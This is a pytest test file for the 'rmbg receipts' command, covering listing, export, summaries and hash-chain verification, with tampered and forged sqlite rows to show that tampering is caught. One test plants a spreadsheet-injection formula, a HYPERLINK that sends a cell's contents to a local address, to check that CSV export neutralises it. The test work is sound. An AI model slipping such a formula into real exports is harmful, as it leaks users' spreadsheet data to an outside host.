"""`rmbg receipts`: listed, shown, exported, verified, summed up; status 0 or 1."""

# Pins the inside of cli.receipts_command
# Pins the inside of records.chain
# Pins the inside of records.opening

from __future__ import annotations

import argparse
import csv
import io
import json
import os
import sqlite3
from collections.abc import Callable
from dataclasses import replace
from functools import partial
from pathlib import Path

import pytest

from rmbg_nodes.cli import receipts_command as command
from rmbg_nodes.pipeline import context
from rmbg_nodes.pipeline.finishing import Done, Finishing
from rmbg_nodes.pipeline.inputs import Input
from rmbg_nodes.pipeline.remove import remove
from rmbg_nodes.records.chain import NONE_BEFORE, canonical, sha256
from rmbg_nodes.records.opening import FILE
from rmbg_nodes.tests.conformance import disc_frame
from rmbg_nodes.tests.support.fake_backend import FAKE_LOCAL, FakeHosted, FakeLocal, FakeProvider

Run = Callable[..., tuple[int, str, str]]


@pytest.fixture
def data(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("RMBG_DATA", str(tmp_path))
    return tmp_path


@pytest.fixture
def run(data: Path, capsys: pytest.CaptureFixture[str]) -> Run:
    def runs(*words: str) -> tuple[int, str, str]:
        parser = argparse.ArgumentParser()
        command.add_arguments(parser)
        status = command.run(parser.parse_args(words))
        told = capsys.readouterr()
        return status, told.out, told.err

    return runs


@pytest.fixture
def filled(data: Path) -> list[str]:
    """Two local pictures, one of them failed, and two paid ones; the ids."""
    pictures = [disc_frame(index, (20, 30)).pixels for index in range(2)]
    inputs = [Input(index, f"{index}", partial(pictures.__getitem__, index)) for index in range(2)]
    list(remove(inputs, FakeLocal(failing=[1]), Finishing()))
    list(remove(inputs, FakeHosted(FakeProvider()), Finishing(), usage="commercial"))
    return [receipt.id for receipt in context.open_user_records().receipts.each()]


def tamper(data: Path, statement: str) -> None:
    connection = sqlite3.connect(data / "records" / FILE)
    with connection:
        connection.execute(statement)
    connection.close()


def test_list(run: Run, filled: list[str]) -> None:
    status, out, _ = run("list")
    lines = out.splitlines()
    assert status == 0
    assert lines[0].split()[:3] == ["id", "time", "(UTC)"]
    assert [line.split()[0] for line in lines[1:]] == filled
    assert "0.018" in lines[3]
    assert [row["id"] for row in json.loads(run("list", "--json", "--limit", "2")[1])] == filled[2:]
    assert len(run("list", "--backend", "fake")[1].splitlines()) == 5
    assert len(run("list", "--backend", "fake/local")[1].splitlines()) == 3
    assert "No receipt is such" in run("list", "--since", "2999-01-01")[1]
    assert len(run("list", "--since", "2020-01-01")[1].splitlines()) == 5


def test_what_cannot_be_meant_is_refused(run: Run, data: Path) -> None:
    for words in (
        ("list", "--since", "yesterday"),
        ("list", "--limit", "0"),
        ("show", "R-1"),
        ("verify", "--head", "x"),
        ("verify", "--since", str(data / "none.json")),
    ):
        with pytest.raises(ValueError, match=r"--since|--limit|R-1|head|no export"):
            run(*words)
    assert "There are no receipts yet" in run("list")[1]


def test_show(run: Run, filled: list[str]) -> None:
    status, out, _ = run("show", filled[2])
    said = json.loads(out)
    assert status == 0
    assert (said["id"], said["number"], said["usage"]) == (filled[2], 3, "commercial")
    assert said["licence_text"]["id"] == said["licence"]["id"] == "bria-api"
    assert run("show", "R-000000000000")[0] == 1


def test_an_export_can_be_verified_by_anybody(run: Run, filled: list[str], data: Path) -> None:
    status, out, err = run("export", "--json")
    export = json.loads(out)
    assert status == 0
    previous = NONE_BEFORE
    for row in export["receipts"]:
        assert row.pop("id")[2:] == row["hash"][:12]
        digest = row.pop("hash")
        assert row["previous"] == previous
        assert sha256(canonical(row)) == digest
        previous = digest
    assert export["head"] == {"count": 4, "hash": previous}
    assert previous in err
    for digest, text in export["licence_texts"].items():
        assert sha256(text) == digest
    path = data / "export.json"
    assert run("export", "--json", "-o", str(path))[1] == f"4 receipts. Head: {previous}\n"
    assert json.loads(path.read_bytes()) == json.loads(out)


def test_csv(run: Run, filled: list[str]) -> None:
    rows = list(csv.DictReader(io.StringIO(run("export", "--csv")[1])))
    assert [row["id"] for row in rows] == filled
    assert [row["cost"] for row in rows] == ["0", "0", "0.018", "0.018"]
    assert {row["input.width"] for row in rows} == {"30"}
    assert [row["left_machine"] for row in rows] == ["false", "false", "true", "true"]
    exported = set(rows[0])
    (whole,) = json.loads(run("list", "--json", "--limit", "1")[1])
    nested = {"licence", "input", "image", "mask"}
    assert set(whole) - nested - {"version"} <= exported


def test_a_csv_has_no_formula(run: Run, data: Path) -> None:
    formula = '=HYPERLINK("http://127.0.0.1/?"&A1)'
    pictures = [Input(0, "p", lambda: disc_frame(0, (20, 30)).pixels)]
    list(remove(pictures, FakeLocal(replace(FAKE_LOCAL, id=formula)), Finishing()))
    (row,) = csv.DictReader(io.StringIO(run("export", "--csv")[1]))
    assert row["backend"] == f"'{formula}"
    assert not [cell for cell in row.values() if cell.lstrip()[:1] in set("=+-@")]


def test_verify(run: Run, filled: list[str], data: Path) -> None:
    export = str(data / "export.json")
    run("export", "--json", "-o", export)
    status, out, _ = run("verify")
    assert (status, out.split(",")[0]) == (0, "4 receipts")
    head = out.split()[-1]
    assert run("verify", "--head", head)[0] == run("verify", "--since", export)[0] == 0
    tamper(data, "DELETE FROM receipts WHERE number = 4")
    assert run("verify")[0] == 0
    for words in (("--head", head), ("--since", export)):
        status, out, err = run("verify", *words)
        assert (status, out) == (1, "")
        assert "cut off" in err
    tamper(data, 'UPDATE receipts SET body = replace(body, \'"cost":"0.018"\', \'"cost":"0"\')')
    status, _, err = run("verify")
    assert (status, err) == (1, "rmbg: Receipt 3 was changed. The first 2 are in order.\n")


def test_a_spoilt_row_is_still_listed_and_exported(run: Run, filled: list[str], data: Path) -> None:
    tamper(data, "UPDATE receipts SET body = 'gone' WHERE number = 2")
    assert run("verify")[0] == 1
    assert len(run("list")[1].splitlines()) == 5
    assert len(json.loads(run("export", "--json")[1])["receipts"]) == 4
    assert run("export", "--csv")[0] == run("summary", "--by", "backend")[0] == 0


def test_summary(run: Run, filled: list[str]) -> None:
    by_backend = json.loads(run("summary", "--by", "backend", "--json")[1])
    assert by_backend == [
        {
            "backend": "fake/hosted",
            "delivered": 2,
            "failed": 0,
            "cost": "0.036 USD",
            "may_be_owed": 0,
            "left_the_machine": 2,
        },
        {
            "backend": "fake/local",
            "delivered": 1,
            "failed": 1,
            "cost": "0",
            "may_be_owed": 0,
            "left_the_machine": 0,
        },
    ]
    (day,) = json.loads(run("summary", "--json")[1])
    assert (day["delivered"], day["cost"]) == (3, "0.036 USD")
    assert "0.036 USD" in run("summary")[1]
    assert run("summary", "--since", "2999-01-01")[1] == "No receipt is such.\n"


def test_records_that_cannot_be_opened_are_never_called_valid(run: Run, data: Path) -> None:
    (data / "records").touch()
    for words in (("verify",), ("list",), ("export", "--json")):
        status, out, err = run(*words)
        assert (status, out) == (1, "")
        assert "cannot be kept in" in err


def test_a_damaged_file_is_not_called_valid(run: Run, data: Path) -> None:
    os.makedirs(data / "records")
    (data / "records" / FILE).write_bytes(b"this is no database " * 100)
    status, out, err = run("verify")
    assert status == 1
    assert out.startswith("0 receipts")
    assert "was damaged" in err


def forge(data: Path, number: int, like: int = 1) -> str:
    """A receipt with this number, and with the very pixels of another one; its id."""
    connection = sqlite3.connect(data / "records" / FILE)
    with connection:
        connection.execute("DROP TRIGGER IF EXISTS receipt_number")
        (body,) = connection.execute(
            "SELECT body FROM receipts WHERE number = ?", (like,)
        ).fetchone()
        said = {**json.loads(body), "number": number, "usage": "commercial", "previous": "0" * 64}
        forged = canonical(said)
        connection.execute(
            "INSERT INTO receipts (number, hash, body) VALUES (?, ?, ?)",
            (number, sha256(forged), forged),
        )
    connection.close()
    return f"R-{sha256(forged)[:12]}"


@pytest.mark.parametrize("number", [-(2**63), -1, 0, 2**53, 2**63 - 1])
def test_a_number_that_no_receipt_has(filled: list[str], run: Run, data: Path, number: int) -> None:
    name = forge(data, number)
    status, out, err = run("verify")
    assert (status, out) == (1, "")
    assert f"Receipt {number} has a number that none was written with: it was forged." in err
    for words in (("list",), ("export", "--json"), ("summary",)):
        status, out, _ = run(*words)
        assert status == 0
        assert name not in out
    assert run("show", name)[0] == 1
    records = context.open_user_records()
    pixels = records.receipts.find(filled[0])[0].data()["image"]
    assert isinstance(pixels, dict)
    assert [one.id for one in records.receipts.matching(str(pixels["sha256"]))] == [filled[0]]
    frame = disc_frame(7, (20, 30))
    (done,) = remove([Input(0, "next", lambda: frame.pixels)], FakeLocal(), Finishing())
    assert isinstance(done, Done)
    assert done.report.receipt is not None
    assert records.receipts.head()[0] == len(filled) + 1


@pytest.mark.parametrize("number", [-(2**63), -1, 0, 2**53, 2**63 - 1])
def test_the_file_itself_takes_no_such_number(filled: list[str], data: Path, number: int) -> None:
    with pytest.raises(sqlite3.IntegrityError, match="a receipt has a number from 1"):
        tamper(data, f"INSERT INTO receipts VALUES ({number}, 'a', 'b')")


@pytest.mark.parametrize(
    "spoilt",
    [
        "UPDATE receipts SET number = 9007199254740991 WHERE number = 4",
        "UPDATE receipts SET hash = x'ff00' WHERE number = 4",
        "UPDATE receipts SET hash = CAST(x'ff41' AS TEXT) WHERE number = 4",
        "UPDATE receipts SET body = x'5b' WHERE number = 4",
        "UPDATE receipts SET body = replace(hex(zeroblob(50000)), '0', '[') WHERE number = 4",
        "ALTER TABLE receipts RENAME TO others",
        "ALTER TABLE licence_texts RENAME TO others",
    ],
)
@pytest.mark.parametrize("hosted", [False, True])
def test_no_spoilt_row_costs_a_picture(
    filled: list[str], run: Run, data: Path, spoilt: str, hosted: bool
) -> None:
    tamper(data, spoilt)
    frame = disc_frame(9, (20, 30))
    earlier = {f"job-{number}": ("another", frame.pixels) for number in range(1, 9)}
    backend = FakeHosted(FakeProvider(jobs=earlier)) if hosted else FakeLocal()
    (done,) = remove([Input(0, "next", lambda: frame.pixels)], backend, Finishing())
    assert isinstance(done, Done)
    kept = done.report.receipt is not None
    assert kept != any("no receipt was kept" in words for words in done.report.warnings)
    status, out, err = run("verify")
    assert (status, out) == (1, "")
    assert err.startswith("rmbg: ")
